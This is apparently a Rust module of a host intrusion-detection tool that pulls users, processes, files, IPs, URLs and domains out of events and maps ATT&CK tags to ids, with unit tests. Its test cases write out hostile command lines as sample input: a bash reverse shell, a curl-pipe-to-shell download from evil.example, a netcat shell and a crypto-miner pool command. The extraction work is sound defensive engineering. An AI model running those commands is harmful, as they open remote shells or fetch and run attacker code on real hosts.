//! Typed entities (user, process and its lineage, file, IP, URL, domain) pulled out of one Ward event
//! for the alert, and ATT&CK ids pulled out of a rule's tags. Pure string work: no
//! IO, no DNS, no rule knowledge beyond the tag names.

use std::collections::BTreeSet;
use std::net::IpAddr;

use ward_protocol::Entity;

use crate::event::{Event, EventData, Lineage, ProcessEvent};

/// Caps so a hostile command line cannot make an alert huge.
const MAX_NETWORK_ENTITIES: usize = 16;
const MAX_TOKEN_LEN: usize = 2048;

/// ATT&CK tactic tag names (as Sigma writes them after `attack.`) to tactic ids.
/// v18 names, plus the v19 names: `stealth` and `defense-impairment` replace
/// `defense-evasion`. The v19 tactic ids were not in the offline ATT&CK snapshot
/// (mitre/cti v18.1), so both map to TA0005, the tactic they were split from.
pub const TACTICS: &[(&str, &str)] = &[
    ("reconnaissance", "TA0043"),
    ("resource-development", "TA0042"),
    ("initial-access", "TA0001"),
    ("execution", "TA0002"),
    ("persistence", "TA0003"),
    ("privilege-escalation", "TA0004"),
    ("defense-evasion", "TA0005"),
    ("stealth", "TA0005"),
    ("defense-impairment", "TA0005"),
    ("credential-access", "TA0006"),
    ("discovery", "TA0007"),
    ("lateral-movement", "TA0008"),
    ("collection", "TA0009"),
    ("exfiltration", "TA0010"),
    ("command-and-control", "TA0011"),
    ("impact", "TA0040"),
];

/// Technique ids (`T1059.004`, normalised to ATT&CK v19 by [`crate::attack`]) and
/// tactic ids (`TA0002`) from Sigma tags, in tag order, without duplicates. Unknown `attack.*` tags (groups, software) are ignored.
pub fn attack_ids(tags: &[String]) -> (Vec<String>, Vec<String>) {
    let mut techniques = Vec::new();
    let mut tactics = Vec::new();
    for tag in tags {
        let Some(rest) = tag
            .strip_prefix("attack.")
            .or_else(|| tag.strip_prefix("ATTACK."))
            .or_else(|| tag.strip_prefix("Attack."))
        else {
            continue;
        };
        let rest = rest.trim().to_ascii_lowercase();
        let is_technique = rest.len() >= 5
            && rest.starts_with('t')
            && rest[1..].bytes().all(|b| b.is_ascii_digit() || b == b'.')
            && rest[1..5].bytes().all(|b| b.is_ascii_digit());
        if is_technique {
            // One ATT&CK: old, revoked and moved ids become their v19 id.
            let id = crate::attack::normalize_technique(&rest.to_ascii_uppercase());
            if !techniques.contains(&id) {
                techniques.push(id);
            }
            continue;
        }
        let normalized = rest.replace('_', "-");
        let id = if normalized.starts_with("ta") && normalized[2..].bytes().all(|b| b.is_ascii_digit()) {
            Some(normalized.to_ascii_uppercase())
        } else {
            TACTICS
                .iter()
                .find(|(name, _)| *name == normalized)
                .map(|(_, id)| (*id).to_string())
        };
        if let Some(id) = id
            && !tactics.contains(&id)
        {
            tactics.push(id);
        }
    }
    (techniques, tactics)
}

/// A process's user, the process and its lineage (a process event, or the opener of
/// a file access).
fn process_entities(p: &ProcessEvent, out: &mut Vec<Entity>) {
    if !p.user.is_empty() || p.uid.is_some() {
        out.push(Entity::User {
            name: p.user.clone(),
            uid: p.uid,
        });
    }
    out.push(Entity::Process {
        pid: p.pid,
        ppid: p.ppid,
        start_time_ms: p.start_time_ms,
        exe: p.exe.clone(),
        cmdline: p.cmdline.clone(),
        sha256: p.sha256,
    });
    if let Some(l) = &p.lineage {
        out.push(lineage_entity(l));
    }
    if let Some(c) = context_entity(p) {
        out.push(c);
    }
}

/// `s` cut to at most `max` bytes, on a character boundary.
fn clip(s: &str, max: usize) -> String {
    let mut at = s.len().min(max);
    while !s.is_char_boundary(at) {
        at -= 1;
    }
    s.get(..at).unwrap_or_default().to_string()
}

/// Where the process runs and for whom, bounded; None when nothing is known of it.
fn context_entity(p: &ProcessEvent) -> Option<Entity> {
    use ward_protocol::{MAX_CONTEXT_PATH, MAX_CONTEXT_TEXT};
    let c = &p.context;
    if p.pid == 0 || (**c == crate::event::ProcessContext::default() && p.cwd.is_empty()) {
        return None;
    }
    Some(Entity::ProcessContext {
        pid: p.pid,
        start_time_ms: p.start_time_ms,
        cwd: clip(&p.cwd, MAX_CONTEXT_PATH),
        tty: clip(&c.tty, MAX_CONTEXT_TEXT),
        session_id: c.session_id,
        login_uid: c.login_uid,
        login_user: c.login_user.as_deref().map(|u| clip(u, MAX_CONTEXT_TEXT)),
        cgroup: clip(&c.cgroup, MAX_CONTEXT_PATH),
        container_id: c.container_id.as_deref().map(|i| clip(i, MAX_CONTEXT_TEXT)),
        mnt_ns: c.mnt_ns,
        pid_ns: c.pid_ns,
        host_namespaces: c.host_namespaces,
    })
}

/// Entities of one event: who, which process or file, and any network indicator.
pub fn entities(event: &Event) -> Vec<Entity> {
    let mut out = Vec::new();
    match &event.data {
        EventData::Process(p) => {
            process_entities(p, &mut out);
            if !p.exe.is_empty() && p.sha256.is_some() {
                out.push(Entity::File {
                    path: p.exe.clone(),
                    sha256: p.sha256,
                });
            }
            network_entities(&p.cmdline, &mut out);
        }
        EventData::File(f) => {
            if let Some(writer) = &f.process {
                process_entities(writer, &mut out);
            }
            out.push(Entity::File {
                path: f.path.clone(),
                sha256: f.sha256,
            });
        }
        EventData::FileAccess(a) => {
            process_entities(&a.process, &mut out);
            out.push(Entity::File {
                path: a.path.clone(),
                sha256: None,
            });
        }
        EventData::Auth(a) => {
            if let Some(user) = a.user.as_deref().filter(|u| !u.is_empty()) {
                out.push(Entity::User {
                    name: user.to_string(),
                    uid: None,
                });
            }
            if let Some(ip) = a.source_ip.as_deref().and_then(|ip| ip.trim().parse::<IpAddr>().ok()) {
                out.push(Entity::Ip { addr: ip });
            }
            if let Some(l) = &a.lineage {
                out.push(lineage_entity(l));
            }
        }
        EventData::Audit(a) => {
            let f = &a.fields;
            let uid = f
                .get("auid")
                .or_else(|| f.get("uid"))
                .and_then(|u| u.parse::<u32>().ok());
            let name = f.get("AUID").or_else(|| f.get("UID")).cloned();
            if let Some(uid) = uid.filter(|u| *u != u32::MAX) {
                out.push(Entity::User {
                    name: name.unwrap_or_default(),
                    uid: Some(uid),
                });
            }
            if let (Some(pid), Some(exe)) = (f.get("pid").and_then(|p| p.parse::<u32>().ok()), f.get("exe")) {
                let cmdline = execve_cmdline(f);
                out.push(Entity::Process {
                    pid,
                    ppid: f.get("ppid").and_then(|p| p.parse().ok()).unwrap_or(0),
                    start_time_ms: 0,
                    exe: exe.trim_matches('"').to_string(),
                    cmdline: cmdline.clone(),
                    sha256: None,
                });
                network_entities(&cmdline, &mut out);
            }
            if let Some(l) = &a.lineage {
                out.push(lineage_entity(l));
            }
            if let Some(name) = f.get("name").filter(|n| n.starts_with('/')) {
                out.push(Entity::File {
                    path: name.trim_matches('"').to_string(),
                    sha256: None,
                });
            }
        }
        EventData::Network(n) => {
            if n.process.pid != 0 {
                process_entities(&n.process, &mut out);
            }
            // The other end links incidents (the collector skips loopback and other
            // addresses that name no host when it keys incidents on it).
            if let Some(addr) = n.remote_ip() {
                out.push(Entity::Ip { addr });
            }
        }
        EventData::Gap(_) => {}
        EventData::Dns(d) => {
            if d.process.pid != 0 {
                process_entities(&d.process, &mut out);
            }
            // The name links incidents; the answers are the addresses it named.
            if !d.query_name.is_empty() {
                out.push(Entity::Domain {
                    name: d.query_name.clone(),
                });
            }
            for a in &d.answers {
                if let Ok(addr) = a.parse() {
                    out.push(Entity::Ip { addr });
                }
            }
        }
    }
    out
}

fn lineage_entity(l: &Lineage) -> Entity {
    Entity::Lineage {
        process: l.process.clone(),
        ancestors: l.ancestors.clone(),
        rooted: l.rooted,
    }
}

/// The command line of an audit EXECVE record (`a0`, `a1`, ... joined by spaces).
fn execve_cmdline(f: &std::collections::BTreeMap<String, String>) -> String {
    let Some(argc) = f.get("argc").and_then(|a| a.parse::<usize>().ok()) else {
        return String::new();
    };
    (0..argc.min(64))
        .filter_map(|i| f.get(&format!("a{i}")))
        .map(|a| a.trim_matches('"'))
        .collect::<Vec<_>>()
        .join(" ")
}

/// IPs, URLs and the domains of URLs found in a command line: `http://x/y.sh`,
/// `stratum+tcp://pool:3333`, `/dev/tcp/1.2.3.4/4444`, `1.2.3.4`, `1.2.3.4:4444`,
/// `user@1.2.3.4`. Bare words that merely look like domains (`a.sh`) are not taken.
pub fn network_entities(cmdline: &str, out: &mut Vec<Entity>) {
    let mut seen = BTreeSet::new();
    let mut push = |e: Entity, out: &mut Vec<Entity>| {
        let key = format!("{e:?}");
        if seen.len() < MAX_NETWORK_ENTITIES && seen.insert(key) {
            out.push(e);
        }
    };
    let tokens = cmdline
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '|' | ';' | '&' | '<' | '>' | '(' | ')' | '`'))
        .filter(|t| !t.is_empty() && t.len() <= MAX_TOKEN_LEN);
    for token in tokens {
        if let Some(idx) = token.find("://") {
            let scheme = &token[..idx];
            if scheme.is_empty() || !scheme.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'+') {
                continue;
            }
            push(Entity::Url { url: token.to_string() }, out);
            if let Some(host) = url_host(&token[idx + 3..]) {
                push(host_entity(host), out);
            }
            continue;
        }
        let dev = token
            .strip_prefix("/dev/tcp/")
            .or_else(|| token.strip_prefix("/dev/udp/"));
        if let Some(rest) = dev {
            let host = rest.split('/').next().unwrap_or("");
            if !host.is_empty() {
                push(host_entity(host), out);
            }
            continue;
        }
        let candidate = token.rsplit('@').next().unwrap_or(token);
        let candidate = candidate.split(':').next().unwrap_or(candidate);
        if let Ok(ip) = candidate.parse::<IpAddr>() {
            push(Entity::Ip { addr: ip }, out);
        } else if let Ok(ip) = token.trim_matches(|c| c == '[' || c == ']').parse::<IpAddr>() {
            push(Entity::Ip { addr: ip }, out);
        }
    }
}

/// The host part of what follows `scheme://`: no userinfo, no port, no path.
fn url_host(rest: &str) -> Option<&str> {
    let authority = rest.split(['/', '?', '#']).next()?;
    let host_port = authority.rsplit('@').next()?;
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next()?
    } else {
        host_port.split(':').next()?
    };
    (!host.is_empty()).then_some(host)
}

fn host_entity(host: &str) -> Entity {
    match host.parse::<IpAddr>() {
        Ok(addr) => Entity::Ip { addr },
        Err(_) => Entity::Domain {
            name: host.to_ascii_lowercase(),
        },
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    fn net(cmd: &str) -> Vec<String> {
        let mut out = Vec::new();
        network_entities(cmd, &mut out);
        out.iter()
            .map(|e| match e {
                Entity::Ip { addr } => format!("ip:{addr}"),
                Entity::Url { url } => format!("url:{url}"),
                Entity::Domain { name } => format!("domain:{name}"),
                other => format!("{other:?}"),
            })
            .collect()
    }

    #[test]
    fn network_indicators_from_command_lines() {
        let cases: &[(&str, &[&str])] = &[
            ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", &["ip:1.2.3.4"]),
            (
                "curl -fsSL http://evil.example/y.sh | sh",
                &["url:http://evil.example/y.sh", "domain:evil.example"],
            ),
            ("nc 10.0.0.5 4444 -e /bin/sh", &["ip:10.0.0.5"]),
            ("ssh root@192.168.1.9", &["ip:192.168.1.9"]),
            (
                "xmrig -o stratum+tcp://pool.x.io:3333",
                &["url:stratum+tcp://pool.x.io:3333", "domain:pool.x.io"],
            ),
            ("ls -la /tmp a.sh", &[]),
            (
                "wget 'https://[2001:db8::1]:8443/a'",
                &["url:https://[2001:db8::1]:8443/a", "ip:2001:db8::1"],
            ),
        ];
        for (cmd, want) in cases {
            assert_eq!(net(cmd), *want, "{cmd}");
        }
    }

    #[test]
    fn process_audit_and_auth_events_carry_their_lineage() {
        use crate::event::{AuditEvent, Lineage, ProcessEvent};
        let node = |pid: u32| ward_protocol::ProcessNode {
            pid,
            ppid: pid - 1,
            start_time_ms: 1000 + u64::from(pid),
            exe: "/usr/bin/bash".into(),
            cmdline: format!("bash {pid}"),
            user: Some("alice".into()),
            login_user: Some("alice".into()),
        };
        let lineage = Box::new(Lineage {
            process: node(30),
            ancestors: vec![node(29), node(28)],
            rooted: true,
        });
        let want = Entity::Lineage {
            process: node(30),
            ancestors: vec![node(29), node(28)],
            rooted: true,
        };
        let lineages = |data: EventData| -> Vec<Entity> {
            entities(&Event {
                observed_at_ms: 1,
                data,
            })
            .into_iter()
            .filter(|e| e.kind() == "lineage")
            .collect()
        };
        let p = ProcessEvent {
            pid: 30,
            lineage: Some(std::sync::Arc::new((*lineage).clone())),
            ..Default::default()
        };
        assert_eq!(lineages(EventData::Process(p.clone())), vec![want.clone()]);
        let bare = ProcessEvent { lineage: None, ..p };
        assert!(lineages(EventData::Process(bare)).is_empty());
        let a = AuditEvent {
            lineage: Some(lineage.clone()),
            ..Default::default()
        };
        assert_eq!(lineages(EventData::Audit(a)), vec![want.clone()]);
        let a = crate::event::AuthEvent {
            lineage: Some(lineage),
            ..Default::default()
        };
        assert_eq!(lineages(EventData::Auth(a)), vec![want]);
    }

    #[test]
    fn a_process_carries_its_context_clipped_and_a_file_access_its_openers() {
        use crate::event::{FileAccessEvent, ProcessContext, ProcessEvent};
        use ward_protocol::{MAX_CONTEXT_PATH, MAX_CONTEXT_TEXT};
        let contexts = |data: EventData| -> Vec<Entity> {
            entities(&Event {
                observed_at_ms: 1,
                data,
            })
            .into_iter()
            .filter(|e| e.kind() == "process_context")
            .collect()
        };
        let p = ProcessEvent {
            pid: 30,
            start_time_ms: 77,
            cwd: "/srv/".to_string() + &"d".repeat(3000),
            context: std::sync::Arc::new(ProcessContext {
                tty: "pts/3".into(),
                session_id: Some(4),
                login_uid: Some(1000),
                login_user: Some("\u{e9}".repeat(200)),
                cgroup: "/kubepods/x".into(),
                container_id: Some("c".repeat(64)),
                mnt_ns: Some(1),
                pid_ns: Some(2),
                host_namespaces: Some(false),
            }),
            ..Default::default()
        };
        let got = contexts(EventData::Process(p.clone()));
        let [
            Entity::ProcessContext {
                pid,
                start_time_ms,
                cwd,
                tty,
                login_user,
                container_id,
                ..
            },
        ] = got.as_slice()
        else {
            panic!("one context entity: {got:?}");
        };
        assert_eq!((*pid, *start_time_ms, tty.as_str()), (30, 77, "pts/3"));
        assert_eq!(cwd.len(), MAX_CONTEXT_PATH);
        let user = login_user.as_deref().unwrap();
        assert!(
            user.len() <= MAX_CONTEXT_TEXT && user.chars().all(|c| c == '\u{e9}'),
            "{user}"
        );
        assert_eq!(container_id.as_deref().map(str::len), Some(64));
        let access = FileAccessEvent {
            path: "/etc/shadow".into(),
            process: p,
        };
        assert_eq!(contexts(EventData::FileAccess(access)).len(), 1);
        // Nothing known (a process that could not be named): no entity.
        assert!(contexts(EventData::Process(ProcessEvent::default())).is_empty());
    }

    #[test]
    fn a_connection_names_its_process_and_the_remote_address() {
        use crate::event::{NetOp, NetworkEvent};
        let ev = |op, process: ProcessEvent| Event {
            observed_at_ms: 1,
            data: EventData::Network(Box::new(NetworkEvent {
                op,
                protocol: "tcp".into(),
                source_ip: "10.0.0.5".parse().unwrap(),
                source_port: 40000,
                destination_ip: Some("203.0.113.7".parse().unwrap()),
                destination_port: Some(443),
                established: true,
                process,
                destination_hostname: None,
            })),
        };
        let p = ProcessEvent {
            pid: 9,
            exe: "/usr/bin/curl".into(),
            user: "alice".into(),
            ..Default::default()
        };
        let got = entities(&ev(NetOp::Connect, p.clone()));
        assert!(got.contains(&Entity::Ip {
            addr: "203.0.113.7".parse().unwrap()
        }));
        assert!(got.iter().any(|e| matches!(e, Entity::Process { pid: 9, .. })));
        // An accept's remote end is its source; an unnamed process gives no process entity.
        let got = entities(&ev(NetOp::Accept, ProcessEvent::default()));
        assert_eq!(
            got,
            vec![Entity::Ip {
                addr: "10.0.0.5".parse().unwrap()
            }]
        );
        assert!(
            !entities(&ev(NetOp::Listen, p))
                .iter()
                .any(|e| matches!(e, Entity::Ip { .. }))
        );
    }

    #[test]
    fn a_dns_lookup_names_its_process_the_domain_and_the_answers() {
        let ev = |pid| Event {
            observed_at_ms: 1,
            data: EventData::Dns(Box::new(crate::event::DnsEvent {
                query_name: "c2.example".into(),
                query_type: "A".into(),
                status: Some("NOERROR".into()),
                answers: vec!["alias.example".into(), "192.0.2.7".into()],
                server_ip: None,
                server_port: 53,
                process: ProcessEvent {
                    pid,
                    exe: "/usr/bin/curl".into(),
                    ..Default::default()
                },
            })),
        };
        let got = entities(&ev(9));
        assert!(got.iter().any(|e| matches!(e, Entity::Process { pid: 9, .. })));
        assert!(got.contains(&Entity::Domain {
            name: "c2.example".into()
        }));
        assert!(got.contains(&Entity::Ip {
            addr: "192.0.2.7".parse().unwrap()
        }));
        assert_eq!(got.iter().filter(|e| matches!(e, Entity::Ip { .. })).count(), 1);
        assert!(!entities(&ev(0)).iter().any(|e| matches!(e, Entity::Process { .. })));
    }

    #[test]
    fn attack_tags_to_ids() {
        let tags: Vec<String> = [
            "attack.execution",
            "attack.t1059.004",
            "attack.stealth",
            "attack.defense-impairment",
            "attack.defense-evasion",
            "attack.g0032",
            "cve.2021-44228",
            "attack.T1105",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        let (tech, tac) = attack_ids(&tags);
        assert_eq!(tech, vec!["T1059.004", "T1105"]);
        assert_eq!(tac, vec!["TA0002", "TA0005"]);
    }
}
